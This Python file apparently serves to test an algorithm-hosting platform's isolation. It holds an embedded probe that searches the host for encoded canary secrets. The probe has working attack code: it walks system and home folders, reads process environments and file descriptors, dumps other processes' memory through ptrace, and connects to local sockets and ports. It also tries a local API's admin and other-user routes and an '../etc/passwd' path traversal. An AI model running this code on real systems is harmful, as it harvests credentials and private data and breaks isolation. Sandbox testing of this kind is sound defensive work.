"""A hostile algorithm that looks for what it must not find, and says where it found it.

What it looks for is given to it with every byte inverted, so that neither its source nor its input
holds what it seeks.
"""

import base64

SOURCE = '''
import base64
import ctypes
import glob
import os
import re
import socket
import urllib.error
import urllib.request

HELLO = b"GET /v1/data/.my HTTP/1.1" + bytes((13, 10)) + b"Host: x" + bytes((13, 10, 13, 10))
MOST = 64 * 1024 * 1024


def read(path):
    try:
        with open(path, "rb", buffering=0) as file:
            return file.read(MOST) or b""
    except OSError:
        return b""


def files():
    for top in ("etc", "opt", "run", "tmp", "home", "root", "var", "dev/shm", "usr/local/etc"):
        top = "/" + top
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path):
                    yield path, read(path)


def processes():
    own = str(os.getpid())
    for folder in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline", "maps", "status", "mountinfo", "net/unix", "net/tcp"):
            yield folder + "/" + name, read(folder + "/" + name)
        if folder != "/proc/" + own:
            yield folder + "/mem", memory(folder)
        for link in glob.glob(folder + "/fd/*"):
            try:
                yield link, os.readlink(link).encode()
            except OSError:
                continue
            if os.path.isfile(link):
                yield link, read(link)


def memory(folder):
    """Of another process here: the agent, or what it has started."""
    found = []
    pid = int(folder.rsplit("/", 1)[1])
    ctypes.CDLL(None).ptrace(16, pid, 0, 0)
    try:
        with open(folder + "/mem", "rb", buffering=0) as file:
            for line in read(folder + "/maps").decode().splitlines():
                start, end = (int(each, 16) for each in line.split()[0].split("-"))
                if "r" in line.split()[1] and end - start < MOST and "[v" not in line:
                    try:
                        file.seek(start)
                        found.append(file.read(end - start))
                    except OSError:
                        continue
    except OSError:
        return b""
    return b"".join(found)


def sockets():
    names = [glob.glob(each, recursive=True) for each in ("/run/**/*.sock", "/tmp/**/*")]
    for path in sum(names, []):
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(1)
            try:
                connection.connect(path)
                connection.sendall(HELLO)
                yield path, connection.recv(65536)
            except OSError:
                continue
    for port in (80, 5432, 6379, 8080, PORT):
        with socket.socket() as connection:
            connection.settimeout(0.5)
            try:
                connection.connect(("127.0.0.1", port))
            except OSError:
                continue
            yield "port %d" % port, b"open"
            found_ports.append(port)


def relay():
    for path in PATHS:
        for method in ("GET", "POST", "OPTIONS", "TRACE"):
            request = urllib.request.Request("http://127.0.0.1:9000" + path, method=method)
            request.add_header("Authorization", "Simple nothing")
            request.add_header("Cookie", "sessionid=x")
            try:
                with urllib.request.urlopen(request, timeout=5) as answer:
                    yield method + path, str(answer.headers).encode() + answer.read()
            except urllib.error.HTTPError as error:
                yield method + path, str(error.headers).encode() + error.read()
            except OSError:
                continue


PATHS = (
    "/", "/healthz", "/metrics", "/admin/", "/v1/data/.my", "/v1/data/OTHER/private",
    "/v1/data/OTHER/private/secret", "/v1/algorithms/OTHER/Any", "/v1/requests",
    "/v1/webhooks/secret", "/v1/admin/reservations", "/v1/algo/OTHER/Any",
    "/git/OTHER/Any.git/info/refs", "/static/../etc/passwd", "/v1/users/OTHER/errors",
)
found_ports = []


def apply(input):
    wanted = {
        name: bytes(byte ^ 255 for byte in base64.b64decode(text))
        for name, text in input["wanted"].items()
    }
    found, looked = [], 0
    own = read("/proc/self/environ")
    sources = [("environment", own)]
    for part in (files, processes, sockets, relay):
        for where, content in part():
            looked += len(content)
            found += [[name, where] for name, value in wanted.items() if value in content]
    found += [[name, "environ"] for name, value in wanted.items() if value in own]
    return {"found": found, "looked": looked, "ports": found_ports}
'''


def hidden(canaries: dict[str, str]) -> dict[str, str]:
    """The canaries in the form that the probe is given."""
    return {
        name: base64.b64encode(bytes(byte ^ 255 for byte in value.encode())).decode()
        for name, value in canaries.items()
    }
